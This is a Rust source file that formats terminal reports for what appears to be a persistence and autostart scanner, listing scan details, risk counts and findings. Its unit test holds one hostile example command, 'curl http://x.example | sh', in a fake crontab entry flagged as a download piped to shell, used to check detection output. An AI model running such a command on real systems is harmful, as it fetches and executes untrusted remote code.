//! Plain-text scan summary for the terminal.

use crate::core::types::{Artifact, RiskLevel, ScanResult};
use std::fmt::Write;

/// Render the summary block and every item at or above `min_risk`.
pub fn render(result: &ScanResult, min_risk: RiskLevel) -> String {
    let mut out = String::new();
    let failed = result.failed_sources();

    let _ = writeln!(out, "=== Scan {} ===", result.status);
    let _ = writeln!(out, "Scan ID:     {}", result.scan_id);
    let _ = writeln!(out, "Platform:    {}", result.platform);
    let _ = writeln!(out, "Duration:    {} seconds", result.duration_secs());
    let _ = writeln!(out, "Items:       {}", result.total_items());
    for (level, count) in result.counts_by_risk().iter().rev() {
        let _ = writeln!(out, "  {:<9} {}", format!("{}:", level), count);
    }

    if !result.errors.is_empty() {
        let _ = writeln!(out);
        let _ = writeln!(out, "Errors ({} source(s)):", failed.len());
        for error in &result.errors {
            let _ = writeln!(out, "  [{}] {}", error.source, error.message);
        }
    }

    let mut shown: Vec<&Artifact> = result.items_at_least(min_risk).collect();
    shown.sort_by(|a, b| b.risk_level.cmp(&a.risk_level));
    if !shown.is_empty() {
        let _ = writeln!(out);
        let _ = writeln!(out, "Findings (>= {}):", min_risk);
        for item in shown {
            render_item(&mut out, item);
        }
    }

    out
}

fn render_item(out: &mut String, item: &Artifact) {
    let _ = writeln!(
        out,
        "  [{}] {} - {} ({})",
        item.risk_level, item.mechanism_kind, item.name, item.location
    );
    if let Some(ref command) = item.command {
        let _ = writeln!(out, "      command: {}", command);
    } else if let Some(ref path) = item.path {
        let _ = writeln!(out, "      path:    {}", path.display());
    }
    for indicator in &item.indicators {
        let _ = writeln!(out, "      - {}", indicator);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::types::{MechanismKind, Platform, ScanStatus};
    use chrono::Utc;

    #[test]
    fn test_findings_filtered_and_sorted() {
        let mut quiet = Artifact::new(Platform::Linux, MechanismKind::AutostartUnit, "ok.service", "/etc/systemd/system/ok.service");
        quiet.risk_level = RiskLevel::Low;
        let mut loud = Artifact::new(Platform::Linux, MechanismKind::ScheduledTask, "curl", "/etc/crontab")
            .with_command("curl http://x.example | sh");
        loud.raise(RiskLevel::Critical, "suspicious token: download piped to shell");

        let now = Utc::now();
        let result = ScanResult {
            scan_id: "id".into(),
            platform: Platform::Linux,
            status: ScanStatus::Completed,
            start_time: now,
            end_time: now,
            items: vec![quiet, loud],
            errors: Vec::new(),
        };
        let text = render(&result, RiskLevel::Medium);
        assert!(text.contains("Items:       2"));
        assert!(text.contains("[CRITICAL] Scheduled Task - curl"));
        assert!(text.contains("- suspicious token: download piped to shell"));
        assert!(!text.contains("ok.service ("));
    }
}
